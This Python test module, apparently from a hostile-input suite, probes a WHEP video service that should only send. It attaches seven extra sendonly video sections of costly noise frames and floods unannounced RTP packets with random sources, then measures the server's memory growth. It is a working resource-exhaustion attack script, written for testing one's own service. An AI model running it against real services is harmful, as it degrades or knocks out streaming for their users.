"""A viewer that sends video: seven sections beside the one that it watches, and RTP that no section announces.

A service that answers `recvonly` starts a decoder for each. Run it with
`PYTHONPATH=tests python -m hostile.extra_sections URL --token TOKEN`.
"""

from __future__ import annotations

import asyncio
import random
from dataclasses import dataclass
from fractions import Fraction

import av
import numpy as np
from aiortc import MediaStreamTrack, RTCConfiguration, RTCPeerConnection
from aiortc.rtp import RtpPacket
from hostile.whep import Endpoint, connect, main, new_client, verdicts

EXTRA_SECTIONS = 7
_WIDTH, _HEIGHT, _FPS = 640, 360, 15
_UNANNOUNCED_PER_FRAME = 10


@dataclass(frozen=True, slots=True)
class Result:
    """verdicts: the answer's word on each section. sent_packets: RTP packets that the extra sections sent."""

    verdicts: list[str]
    sent_packets: int
    unannounced_packets: int
    resident_mb_before: float
    resident_mb_after: float


class _Noise(MediaStreamTrack):  # type: ignore[misc] # aiortc is untyped for mypy here
    """Pictures that cost a decoder much."""

    kind = "video"

    def __init__(self) -> None:
        super().__init__()
        self._count = 0

    async def recv(self) -> av.VideoFrame:
        await asyncio.sleep(1 / _FPS)
        picture = np.full((_HEIGHT * 3 // 2, _WIDTH), 8 * self._count % 256, np.uint8)
        frame = av.VideoFrame.from_ndarray(picture, "yuv420p")
        frame.pts, frame.time_base = self._count * 90_000 // _FPS, Fraction(1, 90_000)
        self._count += 1
        return frame


async def attack(endpoint: Endpoint, seconds: float) -> Result:
    """Watch and send for so long."""
    peer = RTCPeerConnection(RTCConfiguration(iceServers=[]))
    watching = peer.addTransceiver("video", direction="recvonly")
    extra = [peer.addTransceiver(_Noise(), direction="sendonly") for _ in range(EXTRA_SECTIONS)]
    async with new_client() as client:
        before_mb = await endpoint.resident_mb(client)
        try:
            answer = await connect(endpoint, client, peer)
            unannounced = await _send_unannounced(watching.receiver.transport, seconds)
            after_mb = await endpoint.resident_mb(client)
            sent = sum([await _packets(transceiver.sender) for transceiver in extra])
        finally:
            await peer.close()
    return Result(verdicts(answer), sent, unannounced, before_mb, after_mb)


async def _send_unannounced(transport: object, seconds: float) -> int:
    """RTP under the payload types that browsers use, with made-up sources, over the connection that was accepted."""
    chance, sent = random.Random(1), 0
    for _ in range(round(seconds * _FPS)):
        for _ in range(_UNANNOUNCED_PER_FRAME):
            packet = RtpPacket(chance.randrange(96, 128), 1, sent % 65_536, sent, chance.randrange(1, 1 << 32))
            packet.payload = chance.randbytes(1000)
            await transport._send_rtp(packet.serialize())  # type: ignore[attr-defined]
            sent += 1
        await asyncio.sleep(1 / _FPS)
    return sent


async def _packets(sender: object) -> int:
    stats = await sender.getStats()  # type: ignore[attr-defined]
    return sum(entry.packetsSent for entry in stats.values() if entry.type == "outbound-rtp")


if __name__ == "__main__":
    main("Send video to a service that only sends.", attack)
